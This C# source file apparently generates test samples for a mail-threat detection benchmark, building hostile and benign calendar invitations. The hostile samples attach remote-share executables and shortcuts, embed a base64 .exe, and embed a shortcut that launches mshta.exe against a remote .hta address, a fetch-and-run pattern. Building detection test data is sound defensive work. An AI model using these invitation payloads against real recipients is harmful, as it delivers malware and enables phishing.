using System.Globalization;
using System.Text;
using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Documents;

/// <summary>Calendar invitations that bring something, and those of every day.</summary>
internal sealed class Invitations : ISampleKind
{
    private static readonly AttackType[] Types = [AttackType.Behaviour, AttackType.MaliciousUrl, AttackType.CredentialPhishing];

    public string Name => "invitation";

    public IEnumerable<Sample> Make(Random random)
    {
        yield return Hostile("file of a share outside", $"ATTACH:file://{random.Host()}/{random.Word()}/{random.Word()}.{random.Pick(["exe", "lnk", "docm"])}", "calendar-remote-file");
        yield return Hostile("share outside by its path", $"ATTACH:\\\\{random.Host()}\\{random.Word()}\\{random.Word()}.url", "calendar-remote-file");
        yield return Hostile("program inside", $"ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME={random.DocumentName().Replace(' ', '-')}.exe:{Convert.ToBase64String(ProgramOf.Windows(random))}", "archive-with-executable");
        yield return Hostile("shortcut inside", $"ATTACH;VALUE=BINARY;ENCODING=BASE64;X-FILENAME=\"{random.Word()}.lnk\":{Convert.ToBase64String(new ShellLinkWriter { Path = @"C:\Windows\System32\mshta.exe", Arguments = random.Address(".hta") }.ToArray(random))}", "shortcut-command", "archive-with-executable");

        yield return Benign("meeting", "DESCRIPTION:Agenda\\n1. Figures\\n2. Plans");
        yield return Benign("call", $"DESCRIPTION:Join: https://meet.northpine.example/{random.Word()}\r\nURL:https://meet.northpine.example/{random.Word()}");
        yield return Benign("meeting in HTML", $"X-ALT-DESC;FMTTYPE=text/html:<html><body><p>Agenda</p><a href=\"https://www.kellerbau.example/{random.Word()}\">Plan</a></body></html>");
        yield return Benign("meeting with a document", $"ATTACH;FMTTYPE=application/pdf;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=agenda.pdf:{Convert.ToBase64String(new PdfWriter(random).Finish("", "", $"{random.Word()} {random.Word()}"))}");

        Sample Hostile(string name, string lines, params string[] reasons) => Sample.Hostile(name, SampleMail.With(random, Calendar(random, lines)), Types, reasons);

        Sample Benign(string name, string lines) => Sample.Benign(name, SampleMail.With(random, Calendar(random, lines)));
    }

    private static SampleFile Calendar(Random random, string lines)
    {
        var event_ = new StringBuilder("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//Calendar//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n");
        event_.Append(CultureInfo.InvariantCulture, $"UID:{random.Word()}@{random.Word()}.example\r\nDTSTAMP:20261124T090000Z\r\nDTSTART:20261201T0{random.Next(10)}0000Z\r\nORGANIZER;CN=\"{random.Word()}\":mailto:{random.Word()}@northpine.example\r\nSUMMARY:{random.Word()} {random.Word()}\r\n");
        foreach (var line in lines.Split("\r\n"))
            event_.Append(Folded(line)).Append("\r\n");
        event_.Append("END:VEVENT\r\nEND:VCALENDAR\r\n");
        return SampleFile.Text(random.Pick(["invite.ics", "meeting.ics", $"{random.Word()}.ics"]), event_.ToString(), "text/calendar");
    }

    private static string Folded(string line) => string.Join("\r\n ", line.Chunk(74).Select(part => new string(part)));
}
